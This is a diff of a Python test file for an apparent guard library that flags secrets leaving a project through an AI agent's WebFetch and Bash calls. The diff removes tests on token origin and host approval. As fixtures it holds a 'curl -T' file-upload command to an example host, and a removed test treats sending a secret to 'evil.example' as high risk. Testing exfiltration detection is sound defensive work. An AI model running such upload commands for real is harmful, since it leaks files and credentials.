@@ -3,10 +3,11 @@ import pytest
 
 from guards import Event, Settings
 from guards._call import call_of, read
-from guards._call.destinations import FOREIGN, SERVICE, UNKNOWN, foreign_named, short_fingerprint
+from guards._call.destinations import FOREIGN, SERVICE, UNKNOWN, foreign_named
 from guards._sensitive.overlap import seen_rows
 from guards._sensitive.scan import scan
-from guards.contamination.egress import approval, approved_place, at_home, leavings, wanted, weigh
+from guards.contamination.egress import leavings, wanted
+from guards.contamination.logins import at_home
 from tests.contaminated import Story
 from tests.contaminated import settings as of_project
 from tests.spelled import facts
@@ -85,31 +86,6 @@ def test_what_is_looked_up():
     assert wanted(call("WebFetch", url="https://x.example"), read(call("WebFetch", url="https://x.example"), settings()), {}) == [
         ("kept", "seen"), ("kept", "asked"), ("kept", "named"), ("remotes", "")]
     assert ("file", "/p/a.txt") in wanted(call("Bash", command="curl -T a.txt https://x.example"), read(call("Bash", command="curl -T a.txt https://x.example"), settings()), {})
-
-
-def test_what_the_user_gave_weighs_nothing():
-    event = call("WebFetch", {"kept:asked": [{"h": [], "s": rows(SECRET)}]}, url="x")
-    assert weigh(event, SECRET, None, settings(), False) == (0, "")
-
-
-def test_an_approval_covers_the_host_but_one_place_where_many_live():
-    assert approved_place("api.x.example/a/b") == "api.x.example"
-    assert approved_place("github.com/a/b") == "github.com/a/b"
-    assert len(approval(first(call("WebFetch", url="https://x.example")), settings())) == 2
-
-
-def test_a_token_is_at_home_where_it_was_issued_and_nowhere_else():
-    home = short_fingerprint("acme.dev", settings().key)
-    seen = {"kept:seen": [{"s": rows(SECRET), "at": [home]}]}
-    event = call("Bash", seen, command="x")
-    assert weigh(event, SECRET, None, settings(), False, place="api.acme.dev/orders") == (0, "")
-    assert weigh(event, SECRET, None, settings(), False, place="evil.example")[0] == 3
-    both = {"kept:seen": [*seen["kept:seen"], {"s": rows(SECRET)}]}
-    assert weigh(call("Bash", both, command="x"), SECRET, None, settings(), False, place="api.acme.dev")[0] == 3
-
-
-def test_a_secret_that_was_never_read_is_said_to_be():
-    assert weigh(call("Bash", {}, command="x"), SECRET, None, settings(), False)[1].endswith(", which was never read")
 
 
 def test_the_address_that_is_called_is_no_passage_of_what_named_it():
